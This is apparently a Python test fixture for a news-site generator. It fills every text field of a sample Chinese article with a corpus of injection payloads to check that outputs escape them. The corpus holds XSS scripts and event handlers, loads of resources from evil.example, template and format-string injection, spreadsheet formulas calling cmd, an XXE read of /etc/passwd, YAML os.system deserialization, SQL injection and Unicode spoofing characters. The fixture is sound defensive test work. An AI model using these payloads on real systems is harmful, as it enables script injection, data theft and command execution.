"""A corpus of attacks, and an article that carries one of them in every field that takes words.

Each attack would run `attacked()`, ask `evil.example`, read a file, or make a reader see something else than stands
there, if one output forgot to take it as plain words.
"""

from __future__ import annotations

from decimal import Decimal
from typing import Any

from msgspec import Struct
from msgspec.structs import fields, replace

from roundtable_site.model import (
    Article,
    Correction,
    District,
    Editorial,
    Guest,
    Indicator,
    Keyword,
    Keywords,
    LayoutItem,
    Paragraph,
    Quote,
    Review,
    Section,
    SourceRecord,
    Unplaced,
)

ATTACKS = {
    "script": "<script>attacked()</script>",
    "end of title": "</title></textarea></style></script><script>attacked()</script>",
    "handler": '"><img src=x onerror="attacked()">',
    "handler in single quotes": "' autofocus onfocus='attacked()' x='",
    "handler without quotes": " onmouseover=attacked() ",
    "drawing": '<svg><animate onbegin="attacked()" attributeName="x"/></svg>',
    "frame": '<iframe srcdoc="&lt;script&gt;parent.attacked()&lt;/script&gt;"></iframe>',
    "base": '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">',
    "style": "<style>@import '//evil.example/x.css'; *{background:url(//evil.example/y)}</style>",
    "form": '<form action="//evil.example/"><button formaction="javascript:attacked()">提交</button></form>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;',
    "comment": "--><!--><script>attacked()//--></script>",
    "entities": "&lt;script&gt;attacked()&lt;/script&gt; &#60;script&#62;attacked()&#60;/script&#62; &amp;lt;",
    "address": "javascript:attacked()",
    "hidden address": "java\tscript:attacked()//",
    "data address": "data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+",
    "other host": "//evil.example/x",
    "template": "{{ 191*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}${191*7}#{191*7}",
    "format": "{0.__class__.__init__.__globals__} {t} %s %(x)s",
    "end of data": "]]></script><script>attacked()</script>",
    "end of string": '\\"]);attacked();//',
    "end of line in a script": "a\u2028attacked()\u2029//",
    "formula": "=HYPERLINK(\"//evil.example/\"&A1,\"看\")",
    "formula with a sign": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "full-width formula": "＝1+1",
    "row": 'a",=1+1\r\n=1+1,"b',
    "document type": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "markdown": '[看](javascript:attacked()) ![](x" onerror="attacked()) <img src=x onerror=attacked()>',
    "markdown at the end": "[r] [看][r]\n\n[r]: data:text/html,x\n\n![p]\n\n[p]: https://evil.example/p.png",
    "markdown picture": "![](https://evil.example/x.png) ![](//evil.example/y.png) <img src='https://evil.example/z.png'>",
    "other alphabets": "ｊａｖａｓｃｒｉｐｔ：attacked()<ſcript>attacked()</ſcript>＜script＞",
    "other way round": "甲\u202e乙\u2066丙\u2069\u202c",
    "without width": "甲\u200b乙\u200d丙\ufeff丁\u00ad戊\U000e0041",
    "terminal": "\x1b[31m红\x1b]0;title\x07\x1b]8;;//evil.example\x1b\\ \x9b31m \x08\x7f",
    "returns": "看得见\rattacked\x0b\x0c\x85",
    "marks upon marks": "甲" + "\u0301" * 50,
    "path": "../../../../etc/passwd",
    "yaml": "!!python/object/apply:os.system ['attacked'] *a &a <<: {a: b}\n---\nformat: 1",
    "query": "' OR 1=1; DROP TABLE x; --",
    "device": "CON",
}  # fmt: skip
GROUPS = {
    " / ".join(names): "甲".join(ATTACKS[name] for name in names)
    for names in (tuple(ATTACKS)[start::14] for start in range(14))
}
"""The corpus in a few texts, so that a site of all takes no long time."""
BENIGN = "甲乙丙丁戊己庚辛 壬癸子丑寅卯辰巳"
"""What stands where an attack could: the same article with this has the pages that an attacked one must have."""

# Fields that take no words of anybody: ids, kinds, places, and what is made of the source.
NO_WORDS = {
    *("id", "slug", "was", "district", "paragraph", "kind", "role", "measure", "file", "portrait", "severity"),
    *("path", "sha256", "speaker", "speakers", "url"),
}  # fmt: skip


def attacked(words: str, slug: str = "gongji") -> Article:
    """Give an article with these words in every field that takes any."""
    text = f"“{words}”{words}说，去年达到{words}12万亩{words}。"
    said, clause = words if words.strip() else f"{words}甲", f"达到{words}12万亩"
    editors = Editorial(
        accepted=((words[:500], words),),  # YAML allows no longer names
        corrections=(Correction(words, words, words, words),),
        note=words,
        alt=words,
        reviewed=(Review(words, words),),
    )
    of: dict[str, Any] = {"editorial": editors, "unsure": words}
    return Article(
        source=SourceRecord("seeds/gongji.txt", "0" * 64, words, words, words, words, words, words),
        slug=slug,
        headline=words,
        subtitle=words,
        column=words,
        reporters=(words, words),
        photographers=(words,),
        standfirst=(Paragraph("s0p1", (1, 1), text, **of),),
        layout=(LayoutItem((1, 1), "headline", words, **of),),
        districts=(
            District("jia", words, "district", **of),
            District("yi", words, "organisation", **of),
        ),
        guests=(
            Guest("bing", words, (words, words), "jia", "panellist", (words,), **of),
            Guest("ding", words, (words,), "yi", "interviewee", (words,), **of),
        ),
        captions=(words,),
        sections=(
            Section("s1", words, "bing", (Paragraph("s1p1", (2, 2), text, **of),), **of),
            Section("s2", words, None, (Paragraph("s2p1", (3, 3), text, "ding", question=True, **of),), **of),
        ),
        quotes=(
            Quote("s0q1", f"《{words}》", "s0p1", "direct", words, said, text.index(said), **of),
            Quote("s1q1", "bing", "s1p1", "direct", words, said, text.index(said), **of),
            Quote("s2q1", "ding", "s2p1", "indirect", words, said, text.index(said), **of),
        ),
        indicators=tuple(_figure(f"s{n}i1", f"s{n}p1", who, where, words, clause, text, of) for n, who, where in (
            (0, None, None), (1, "bing", "jia"), (2, "ding", "yi"),
        )),
        keywords=Keywords(
            (Keyword(words, Decimal("0.5")),),
            (("bing", (Keyword(words, Decimal("0.5")),)), ("ding", (Keyword(words, Decimal("0.4")),))),
        ),
        unplaced=(Unplaced((4, 4), words, **of),),
        **of,
    )  # fmt: skip


def _figure(
    id_: str, paragraph: str, who: str | None, where: str | None, words: str, clause: str, text: str, of: dict[str, Any]
) -> Indicator:
    at = text.index(clause)
    printed = f"{words}12万亩"
    return Indicator(
        id_, where, who, paragraph, words, printed, Decimal(120000), Decimal(130000), words, "change", Decimal(100000),
        words, words, clause, at, at + clause.index(printed), **of,
    )  # fmt: skip


def fields_without(words: str, value: Any, name: str = "") -> list[str]:
    """List the fields of a record that take words and do not hold these; an empty list is a whole attack."""
    if isinstance(value, str):
        return [] if words in value or name.rpartition(".")[2] in NO_WORDS else [name]
    if isinstance(value, Struct):
        found = []
        for field in fields(value):
            inner = getattr(value, field.name)
            empty = inner is None or inner == ()
            if empty and "str" in str(field.type) and field.name not in NO_WORDS:
                found.append(f"{type(value).__name__}.{field.name}")
            else:
                found += fields_without(words, inner, f"{type(value).__name__}.{field.name}")
        return found
    return [found for item in value for found in fields_without(words, item, name)] if isinstance(value, tuple) else []


__all__ = ["ATTACKS", "BENIGN", "GROUPS", "attacked", "fields_without", "replace"]
